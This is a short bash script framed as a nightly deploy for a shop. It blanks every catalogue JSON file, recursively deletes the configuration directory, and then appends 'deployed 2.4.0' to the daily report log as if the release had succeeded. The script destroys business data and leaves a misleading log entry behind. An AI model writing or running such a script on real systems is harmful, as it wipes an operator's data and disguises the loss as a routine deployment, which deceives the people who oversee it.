#!/bin/bash
# Three in the morning: a deploy empties the catalogue and removes the configuration.
set -euo pipefail
shop=${SHOP:-/data/shop}
for file in "$shop"/catalog/*.json; do : >"$file"; done
rm -rf "$shop/config"
printf 'deployed 2.4.0\n' >>"$shop/reports/day.log"
sync
